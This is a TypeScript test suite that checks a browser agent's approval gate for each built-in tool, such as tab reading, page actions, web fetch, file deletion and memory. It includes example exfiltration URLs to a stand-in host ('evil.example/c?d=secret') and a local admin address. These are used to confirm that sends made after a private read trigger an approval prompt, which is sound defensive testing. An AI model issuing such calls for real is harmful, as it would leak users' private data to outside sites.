// Security suite: every built-in tool's annotations, judged by the real approval gate in the
// situations that matter, against a table written by hand. The table is the promise ("closing a
// tab asks every time", "reading the user's own tab does not ask", "after a private read, a fetch
// to a new site asks"); the annotations are what the code says. A wrong flag on any tool (a
// read-only `close_tab`, a non-destructive `opfs_delete`, a `web_fetch` without `openWorld`) turns a
// row red. The tools come from the real plugin list (plugins/index.ts), and a tool without a row
// fails: a new tool must be placed in the table before it ships.
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { ApprovalGate, type Permission, type PermissionStore } from '@/core/approvals/gate';
import type { ToolRegistry } from '@/core/registry/registry';
import type { GatedCall } from '@/core/registry/types';
import { openDb } from '@/core/storage/db';
import { builtinToolNames, realPluginRegistry, useOpfsMock } from './real-plugins';

/** The tab the user is looking at, and another one. */
const USER_TAB = { id: 1, url: 'https://mail.example/inbox', title: 'Inbox' };
const OTHER_TAB = { id: 2, url: 'https://bank.example/account', title: 'Account' };

/**
 * The situations a call is judged in:
 * - `userTab`: a fresh conversation; the call names the user's own tab, or a public address;
 * - `otherTab`: the same, on a tab the user is not looking at;
 * - `afterRead`: after the conversation read the user's tab (private data), the call names the
 *   user's tab, or an address of a site the task has not involved (evil.example);
 * - `ownNetwork`: the call names an address on the user's own network;
 * - `taints`: not the call's own verdict but what it leaves behind: once it ran (and succeeded),
 *   does a fetch of evil.example ask (`outbound/call`), as after a private read, or not (`allow`)?
 */
const SITUATIONS = ['userTab', 'otherTab', 'afterRead', 'ownNetwork', 'taints'] as const;
type Situation = (typeof SITUATIONS)[number];

/** What the call names in each situation: a tab id and an address. */
const TARGETS: Record<Exclude<Situation, 'taints'>, { tab: number; url: string }> = {
  userTab: { tab: USER_TAB.id, url: 'https://news.example/today' },
  otherTab: { tab: OTHER_TAB.id, url: 'https://news.example/today' },
  afterRead: { tab: USER_TAB.id, url: 'https://evil.example/c?d=secret' },
  ownNetwork: { tab: USER_TAB.id, url: 'http://192.168.1.1/admin' },
};

/** `allow`, or `<reason>/<scope>` of the card the gate shows (reason: why; scope: what Allow once covers). */
type Verdict = 'allow' | `${'read' | 'claimed' | 'acting' | 'destructive' | 'outbound' | 'local' | 'sensitive' | 'unattended' | 'instructs'}/${'call' | 'site'}`;

/** Shorthands for rows whose verdict does not depend on the situation. */
const ALLOW = { userTab: 'allow', otherTab: 'allow', afterRead: 'allow', ownNetwork: 'allow' } as const;
const ALWAYS_ASKS = (reason: 'acting' | 'destructive') =>
  ({ userTab: `${reason}/call`, otherTab: `${reason}/call`, afterRead: `${reason}/call`, ownNetwork: `${reason}/call` }) as const;

interface Row {
  /** The row's name in the report (the tool's, or the tool's with what makes this call special). */
  label: string;
  tool: string;
  /** A valid input for the tool, naming the situation's tab or address where the tool takes one. */
  input: (t: { tab: number; url: string }) => unknown;
  expect: Record<Situation, Verdict>;
}

const ROWS: Row[] = [
  // ——— tabs ———
  { label: 'list_tabs', tool: 'list_tabs', input: () => ({}), expect: { ...ALLOW, taints: 'outbound/call' } },
  {
    label: 'get_tab_content',
    tool: 'get_tab_content',
    input: (t) => ({ tab_id: t.tab }),
    expect: { userTab: 'allow', otherTab: 'read/site', afterRead: 'allow', ownNetwork: 'allow', taints: 'outbound/call' },
  },
  {
    label: 'open_tab',
    tool: 'open_tab',
    input: (t) => ({ url: t.url }),
    expect: { userTab: 'acting/call', otherTab: 'acting/call', afterRead: 'outbound/call', ownNetwork: 'local/call', taints: 'outbound/call' },
  },
  { label: 'close_tab', tool: 'close_tab', input: (t) => ({ tab_id: t.tab }), expect: { ...ALWAYS_ASKS('destructive'), taints: 'outbound/call' } },
  { label: 'activate_tab', tool: 'activate_tab', input: (t) => ({ tab_id: t.tab }), expect: { ...ALWAYS_ASKS('acting'), taints: 'outbound/call' } },
  // ——— page actions ———
  // Reading a page: as reading a tab (its text is private data).
  ...(['read_page', 'wait_for', 'screenshot'] as const).map((tool) => ({
    label: tool,
    tool,
    input: (t: { tab: number }) => (tool === 'wait_for' ? { tab_id: t.tab, text: 'Done' } : { tab_id: t.tab }),
    expect: { userTab: 'allow', otherTab: 'read/site', afterRead: 'allow', ownNetwork: 'allow', taints: 'outbound/call' } as const,
  })),
  // Acting in a page asks every time (a remembered Always allow may cover it; sensitive ones never).
  ...([
    ['click', { ref: 'e1' }],
    ['fill', { ref: 'e1', text: 'buy milk' }],
    ['select_option', { ref: 'e1', label: 'Armenia' }],
    ['press_key', { key: 'Escape' }],
    ['hover', { ref: 'e1' }],
    ['scroll', { direction: 'down' }],
    ['drag', { ref: 'e1', dx: 40 }],
    ['click_at', { x: 10, y: 10 }],
    ['hover_at', { x: 10, y: 10 }],
    ['select_text', { ref: 'e1', text: 'milk' }],
    ['clipboard', { action: 'paste', ref: 'e1', text: 'buy milk' }],
    ['clipboard', { action: 'copy' }],
    ['upload_file', { ref: 'e1', path: 'docs/cv.pdf' }],
    ['dialog', { accept: true }],
  ] as const).map(([tool, input]) => ({
    label: tool,
    tool,
    input: (t: { tab: number }) => ({ ...input, tab_id: t.tab }),
    expect: { ...ALWAYS_ASKS('acting'), taints: 'outbound/call' } as const,
  })),
  // Loading an address in the tab: the address is a sink, as opening a tab.
  {
    label: 'navigate',
    tool: 'navigate',
    input: (t) => ({ url: t.url, tab_id: t.tab }),
    expect: { userTab: 'acting/call', otherTab: 'acting/call', afterRead: 'outbound/call', ownNetwork: 'local/call', taints: 'outbound/call' },
  },
  // Handing the tab to the user changes nothing by itself; it reads the page again after.
  { label: 'hand_over', tool: 'hand_over', input: (t) => ({ tab_id: t.tab, reason: 'Sign in' }), expect: { userTab: 'allow', otherTab: 'read/site', afterRead: 'allow', ownNetwork: 'allow', taints: 'outbound/call' } },
  // ——— web ———
  {
    label: 'web_fetch',
    tool: 'web_fetch',
    input: (t) => ({ url: t.url }),
    expect: { userTab: 'allow', otherTab: 'allow', afterRead: 'outbound/call', ownNetwork: 'local/call', taints: 'allow' },
  },
  // The query goes to the search engine: after a private read, that is a send to another site.
  { label: 'web_search', tool: 'web_search', input: () => ({ query: 'tide pools' }), expect: { ...ALLOW, afterRead: 'outbound/call', taints: 'allow' } },
  // ——— page tools ———
  {
    label: 'list_page_tools',
    tool: 'list_page_tools',
    input: (t) => ({ tab_id: t.tab }),
    expect: { userTab: 'allow', otherTab: 'read/site', afterRead: 'allow', ownNetwork: 'allow', taints: 'outbound/call' },
  },
  // ——— workspace ———
  { label: 'opfs_write (a new file)', tool: 'opfs_write', input: () => ({ path: 'notes/new.md', content: 'x' }), expect: { ...ALLOW, taints: 'allow' } },
  { label: 'opfs_write (over an existing file)', tool: 'opfs_write', input: () => ({ path: 'existing.md', content: 'x' }), expect: { ...ALWAYS_ASKS('destructive'), taints: 'allow' } },
  { label: 'opfs_read', tool: 'opfs_read', input: () => ({ path: 'existing.md' }), expect: { ...ALLOW, taints: 'outbound/call' } },
  { label: 'opfs_list', tool: 'opfs_list', input: () => ({}), expect: { ...ALLOW, taints: 'outbound/call' } },
  { label: 'opfs_delete', tool: 'opfs_delete', input: () => ({ path: 'existing.md' }), expect: { ...ALWAYS_ASKS('destructive'), taints: 'allow' } },
  // ——— the user, the task list, scripts, sub-agents ———
  // What the user answers, the agent's own task list and a sandbox computation are no site's private data.
  { label: 'ask_user', tool: 'ask_user', input: () => ({ question: 'Which one?' }), expect: { ...ALLOW, taints: 'allow' } },
  // A plan is shown and waits for the user; marking a step done moves the strip. Neither reads anything private.
  { label: 'propose_plan', tool: 'propose_plan', input: () => ({ goal: 'Compare', steps: [{ text: 'Look' }], sites: ['https://shop.example'] }), expect: { ...ALLOW, taints: 'allow' } },
  { label: 'mark_step_done', tool: 'mark_step_done', input: () => ({ step: 1 }), expect: { ...ALLOW, taints: 'allow' } },
  { label: 'create_task', tool: 'create_task', input: () => ({ subject: 'Read the mail' }), expect: { ...ALLOW, taints: 'allow' } },
  { label: 'update_task', tool: 'update_task', input: () => ({ task_id: '1', status: 'completed' }), expect: { ...ALLOW, taints: 'allow' } },
  { label: 'list_tasks', tool: 'list_tasks', input: () => ({}), expect: { ...ALLOW, taints: 'allow' } },
  // ——— catalogue ——— (reads the list of tools: nothing of the user's)
  { label: 'find_tools', tool: 'find_tools', input: () => ({ query: 'files' }), expect: { ...ALLOW, taints: 'allow' } },
  // Proposing a skill only opens the save form in the sidebar: the user saves, or not; it reads no site.
  // Keeping a memory: its words become the user's in later prompts. Asked every time, wherever,
  // even when the conversation acts without asking (the `taints` run answers its card Allow once).
  {
    label: 'remember',
    tool: 'remember',
    input: () => ({ text: 'I prefer metric units' }),
    expect: { userTab: 'instructs/call', otherTab: 'instructs/call', afterRead: 'instructs/call', ownNetwork: 'instructs/call', taints: 'allow' },
  },
  { label: 'save_skill', tool: 'save_skill', input: () => ({ name: 'weekly-report', params: [{ name: 'date', value: '2026-12-07' }] }), expect: { ...ALLOW, taints: 'allow' } },
  {
    label: 'execute_script (in a page)',
    tool: 'execute_script',
    input: (t) => ({ code: 'document.title', target: 'page', tab_id: t.tab }),
    // Code in a page can send anywhere (fetch): after a private read, even in the page that was read.
    expect: { ...ALWAYS_ASKS('destructive'), afterRead: 'outbound/call', taints: 'outbound/call' },
  },
  {
    label: 'execute_script (in the sandbox)',
    tool: 'execute_script',
    input: () => ({ code: '6 * 7', target: 'sandbox' }),
    expect: { ...ALLOW, taints: 'allow' },
  },
  { label: 'agent', tool: 'agent', input: (t) => ({ prompt: 'Summarize the tab', tab_id: t.tab }), expect: { ...ALLOW, taints: 'allow' } },
];

function memoryPermissions(): PermissionStore {
  const saved: Permission[] = [];
  return { load: async () => [...saved], put: async (p) => void saved.push(p), remove: async () => undefined };
}

/**
 * The call as the agent loop hands it to the gate (core/agent/tool-call.ts `runToolCall`): judged by
 * what this call does where the tool narrows its annotations for one call (`forCall`).
 */
async function gatedCall(registry: ToolRegistry, name: string, raw: unknown, conversationId: string): Promise<GatedCall> {
  const admitted = registry.admit(name, raw);
  if ('refused' in admitted) throw new Error(`The table's input for ${name} is refused before the gate: ${admitted.refused.ok ? '' : admitted.refused.error}`);
  // As the loop does: the input made ready once (an address parsed) is what the gate judges.
  const input = admitted.input;
  const spec = registry.describe(name)!;
  const annotations = spec.annotations.forCall ? await registry.callAnnotations(name, input) : spec.annotations;
  return { name, input, spec: annotations === spec.annotations || !annotations ? spec : { ...spec, annotations }, conversationId, toolCallId: `${name}-call` };
}

describe('security: every built-in tool\'s annotations × the approval gate', () => {
  const db = openDb('sidequest-annotations');
  let registry: ToolRegistry;
  let gate: ApprovalGate;
  let allowOnce = false;
  let conversations = 0;

  beforeAll(async () => {
    await useOpfsMock();
    registry = realPluginRegistry({ db });
    expect(await registry.invoke('opfs_write', { path: 'existing.md', content: 'an existing file' })).toMatchObject({ ok: true });
    gate = new ApprovalGate({
      permissions: memoryPermissions(),
      activeTab: async () => USER_TAB,
      tab: async (id) => [USER_TAB, OTHER_TAB].find((t) => t.id === id),
    });
    // Every ask is answered Deny at once: the verdict is what the card said (Allow once while
    // `allowOnce`: a call that asks even with the switch on runs in the `taints` situation).
    gate.onChange((change) => {
      if (change.type === 'asked') queueMicrotask(() => gate.answer(change.approval.id, allowOnce ? 'once' : 'deny'));
    });
  });

  afterAll(() => db.close());

  /** The gate's verdict on one call: allowed, or the reason and scope of its card. */
  async function verdict(call: GatedCall): Promise<Verdict> {
    let asked: Verdict | undefined;
    const off = gate.onChange((change) => {
      if (change.type === 'asked') asked = `${change.approval.reason}/${change.approval.scope}`;
    });
    try {
      const result = await gate.check(call);
      if (result.ok) return 'allow';
      if (!asked) throw new Error(`${call.name} was refused without an ask: ${result.result.ok ? '' : result.result.error}`);
      return asked;
    } finally {
      off();
    }
  }

  /** Has the conversation read the user's tab, as the loop records a successful read. */
  async function readUserTab(conversationId: string): Promise<void> {
    const read = await gatedCall(registry, 'get_tab_content', { tab_id: USER_TAB.id }, conversationId);
    const pass = await gate.check(read);
    if (!pass.ok) throw new Error('reading the user\'s own tab should need no ask');
    gate.record!(read, pass.note, { ok: true, output: { url: USER_TAB.url, title: 'Inbox', content: 'private mail' } });
  }

  test('every built-in tool has a row, and every row names a built-in tool', () => {
    const inTable = [...new Set(ROWS.map((r) => r.tool))].sort();
    expect(inTable, 'add a row for each new tool (its verdict in every situation) to this table').toEqual(builtinToolNames());
  });

  for (const row of ROWS) {
    test(row.label, async () => {
      const seen = {} as Record<Situation, Verdict>;
      for (const situation of SITUATIONS) {
        const conversationId = `c${++conversations}`;
        if (situation === 'taints') {
          // The call ran and succeeded; then a fetch to a site the task has not involved.
          const call = await gatedCall(registry, row.tool, row.input(TARGETS.userTab), conversationId);
          gate.setTrusted(conversationId, true);
          allowOnce = true;
          const pass = await gate.check(call).finally(() => (allowOnce = false));
          gate.setTrusted(conversationId, false);
          if (!pass.ok) throw new Error(`${row.tool} should run in a conversation that acts without asking`);
          gate.record!(call, pass.note, { ok: true, output: {} });
          seen.taints = await verdict(await gatedCall(registry, 'web_fetch', { url: 'https://evil.example/c?d=1' }, conversationId));
          continue;
        }
        if (situation === 'afterRead') await readUserTab(conversationId);
        seen[situation] = await verdict(await gatedCall(registry, row.tool, row.input(TARGETS[situation]), conversationId));
      }
      expect(seen).toEqual(row.expect);
    });
  }
});
